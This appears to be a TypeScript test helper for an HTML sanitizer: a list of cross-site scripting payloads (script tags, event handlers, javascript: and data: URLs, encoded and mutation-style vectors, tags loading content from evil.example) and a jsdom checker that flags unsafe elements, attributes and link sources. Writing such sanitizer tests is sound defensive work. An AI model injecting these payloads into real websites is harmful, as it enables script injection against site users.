/** Payloads that try to run script or load foreign content through admin-entered HTML. */
export const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/images/00000000000000000000000000000000.webp" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="https://example.com" onclick="alert(1)">click</a>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="q"><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<img src="https://evil.example/track.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '"><script>alert(1)</script>',
  '<p>ok</p><!--<script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<a href="//evil.example/">protocol-relative</a>',
];

const ALLOWED_TAGS = new Set([
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'P',
  'BR',
  'HR',
  'BLOCKQUOTE',
  'UL',
  'OL',
  'LI',
  'STRONG',
  'B',
  'EM',
  'I',
  'U',
  'S',
  'SUB',
  'SUP',
  'SMALL',
  'MARK',
  'A',
  'IMG',
  'TABLE',
  'CAPTION',
  'THEAD',
  'TBODY',
  'TFOOT',
  'TR',
  'TH',
  'TD',
]);
const ALLOWED_ATTRIBUTES = new Set([
  'href',
  'title',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'scope',
  'colspan',
  'rowspan',
  'start',
]);

/**
 * Parses sanitized HTML with a real HTML parser and lists everything that could run script or load
 * foreign content: disallowed elements, event handlers and other attributes, unsafe link schemes,
 * images from anywhere but this site's image store.
 */
export async function findUnsafeMarkup(html: string): Promise<string[]> {
  const { JSDOM } = await import('jsdom');
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const problems: string[] = [];
  for (const el of Array.from(document.body.querySelectorAll('*'))) {
    if (!ALLOWED_TAGS.has(el.tagName)) problems.push(`element <${el.tagName.toLowerCase()}>`);
    for (const attr of Array.from(el.attributes)) {
      if (!ALLOWED_ATTRIBUTES.has(attr.name)) problems.push(`attribute ${attr.name} on <${el.tagName.toLowerCase()}>`);
    }
    const href = el.getAttribute('href');
    if (href !== null && !/^(https?:|mailto:|tel:|\/(?!\/)|#)/i.test(href.trim())) problems.push(`href ${href}`);
    const src = el.getAttribute('src');
    if (src !== null && !/^\/api\/images\/(cards\/)?[a-f0-9]{32}\.webp$/.test(src)) problems.push(`src ${src}`);
  }
  return problems;
}
